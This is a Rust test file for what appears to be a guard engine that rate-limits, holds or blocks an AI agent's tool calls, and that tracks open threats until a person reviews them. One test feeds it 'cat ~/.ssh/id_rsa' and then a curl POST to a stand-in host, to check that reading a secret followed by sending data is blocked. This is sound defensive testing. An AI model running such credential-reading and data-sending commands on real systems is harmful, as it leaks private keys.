//! Rules over what came before, exactly; threats.

use std::time::Duration;

use placet_engine::{CarryOver, Submission};
use placet_store::ThreatState;

use crate::rig::{Rig, call, configuration, harmless, risky, rules, short, ticket};

fn window(policy: &str) -> String {
    format!(
        "id: t.five\ntitle: Five calls\nseverity: high\npolicy: {policy}\nwhy: test\n\
         when: {{ tool: {{ exact: terminal }} }}\nwindow: {{ count: 5, within: 1m, by: session }}\n\
         EXAMPLES\n"
    )
}

const SEQUENCE: &str = "id: t.secret-then-send\ntitle: A secret was read and something left\nseverity: critical\n\
    policy: auto_block\nwhy: test\nsequence:\n  within: 10m\n  by: session\n  steps:\n    \
    - effect: { verb: read, target: { sensitivity: [secret, credential] } }\n    \
    - effect: { verb: send }\nEXAMPLES\n";

fn rig(yaml: &str) -> Rig {
    let mut configuration = configuration();
    configuration.rules = rules(yaml);
    configuration.carry_over = CarryOver::Nothing;
    Rig::with(configuration)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_window_is_exact_however_many_come_at_once() {
    let rig = rig(&window("auto_block"));
    let tasks: Vec<_> = (0..64)
        .map(|_| {
            let engine = rig.engine.clone();
            tokio::spawn(async move { engine.submit(Submission::new(call("ls"), Duration::ZERO)).await })
        })
        .collect();
    let mut allowed = 0;
    for task in tasks {
        allowed += usize::from(task.await.unwrap().is_allow());
    }
    assert_eq!(allowed, 4);
    rig.clock.advance(60_001);
    assert_eq!(short(&rig.ask(call("ls")).await), "allow");
    rig.verify().unwrap();
}

#[tokio::test]
async fn a_window_survives_a_restart() {
    let rig = rig(&window("auto_block"));
    for _ in 0..4 {
        assert!(rig.ask(call("ls")).await.is_allow());
    }
    let rig = rig.restarted();
    let mut configuration = configuration();
    configuration.rules = rules(&window("auto_block"));
    configuration.carry_over = CarryOver::Nothing;
    rig.engine.configure(configuration);
    assert_eq!(short(&rig.ask(call("ls")).await), "Blocked: Five calls (rule `t.five`).");
}

#[tokio::test]
async fn a_step_counts_once_the_call_was_let_through() {
    let rig = rig(SEQUENCE);
    let send = || call("curl -d hello https://elsewhere.example/");
    assert!(!short(&rig.ask(call("cat ~/.ssh/id_rsa")).await).is_empty());
    // It was held, so nothing was read, and nothing leaves with it.
    assert!(!short(&rig.ask(send()).await).contains("t.secret-then-send"));
    let hold = rig.engine.pending(10).unwrap().remove(0);
    rig.approve(hold.opened.ticket.as_str()).await;
    assert_eq!(short(&rig.ask(call("cat ~/.ssh/id_rsa")).await), "allow");
    let answer = rig.ask(send()).await;
    assert!(short(&answer).contains("t.secret-then-send"), "{answer:?}");
}

#[tokio::test]
async fn an_open_threat_weighs_on_what_follows_until_somebody_has_looked() {
    let yaml = "id: t.blocked\ntitle: Deletes everything\nseverity: critical\npolicy: auto_block\nwhy: test\n\
                when: { text: { contains: forbidden } }\nEXAMPLES\n";
    let mut configuration = configuration();
    configuration.rules = rules(yaml);
    let rig = Rig::with(configuration);
    assert_eq!(short(&rig.ask(harmless()).await), "allow");
    assert!(!rig.ask(call("echo forbidden")).await.is_allow());
    assert_eq!(
        short(&rig.ask(harmless()).await),
        "Blocked: nobody has looked yet at what this session did before: Deletes everything."
    );
    assert_eq!(short(&rig.ask(harmless().with_session("s2")).await), "allow");
    let threat = rig.engine.look(|ledger| ledger.threats(false, 10)).unwrap().remove(0);
    assert_eq!((threat.state, threat.count), (ThreatState::Open, 1));
    let person = rig.person().await;
    assert!(rig.engine.threat_change(threat.id, ThreatState::Acknowledged, &person).await.unwrap());
    assert_eq!(short(&rig.ask(harmless()).await), "allow");
    assert!(rig.engine.threat_change(threat.id, ThreatState::Cleared, &person).await.unwrap());
    // A new match opens it again.
    assert!(!rig.ask(call("echo forbidden")).await.is_allow());
    assert!(!rig.ask(harmless()).await.is_allow());
    rig.verify().unwrap();
}

#[tokio::test]
async fn a_session_without_a_name_carries_nothing_over() {
    let yaml = "id: t.blocked\ntitle: Deletes everything\nseverity: critical\npolicy: auto_block\nwhy: test\n\
                when: { text: { contains: forbidden } }\nEXAMPLES\n";
    let mut configuration = configuration();
    configuration.rules = rules(yaml);
    let rig = Rig::with(configuration);
    for session in ["", "unknown"] {
        assert!(!rig.ask(call("echo forbidden").with_session(session)).await.is_allow());
        // That may be another agent, which has done nothing.
        assert_eq!(short(&rig.ask(harmless().with_session(session)).await), "allow", "`{session}`");
    }
}

#[tokio::test]
async fn answering_a_hold_is_looking_at_its_threat() {
    let yaml = "id: t.held\ntitle: Pushes by force\nseverity: high\npolicy: hold\nwhy: test\n\
                when: { text: { contains: --force } }\nEXAMPLES\n";
    let mut configuration = configuration();
    configuration.rules = rules(yaml);
    let rig = Rig::with(configuration);
    let first = ticket(&rig.ask(risky()).await);
    let second = ticket(&rig.ask(harmless()).await);
    assert_ne!(first, second);
    // Joining it is not looking at it, and does not hide what led there.
    assert_eq!(ticket(&rig.ask(risky()).await), first);
    rig.deny(&first, "no").await;
    assert_eq!(rig.engine.look(|ledger| ledger.threats_open_of("s1")).unwrap(), []);
    assert_eq!(short(&rig.ask(call("git status")).await), "allow");
}

#[tokio::test]
async fn different_values_are_counted_without_being_kept() {
    let yaml = "id: t.distinct\ntitle: Three different files\nseverity: high\npolicy: auto_block\nwhy: test\n\
                when: { tool: { exact: read_file } }\nwindow: { distinct: { of: arg.path, count: 3 }, within: 1m, by: session }\n\
                EXAMPLES\n";
    let rig = rig(yaml);
    let read = |path: &str| crate::rig::wire("read_file", &format!(r#"{{"path":"{path}"}}"#));
    for path in ["/srv/shop/one", "/srv/shop/two", "/srv/shop/one"] {
        assert!(rig.ask(read(path)).await.is_allow());
    }
    assert!(!rig.ask(read("/srv/shop/three")).await.is_allow());
    let file = rig.file();
    drop(rig.engine);
    drop(rig.store);
    let shelves: Vec<Vec<u8>> = rusqlite::Connection::open(file)
        .and_then(|connection| {
            let mut statement = connection.prepare("select bytes from shelf")?;
            statement.query_map([], |row| row.get(0))?.collect()
        })
        .unwrap();
    assert!(!shelves.is_empty());
    assert!(!shelves.iter().any(|bytes| bytes.windows(4).any(|window| window == b"/one")));
}
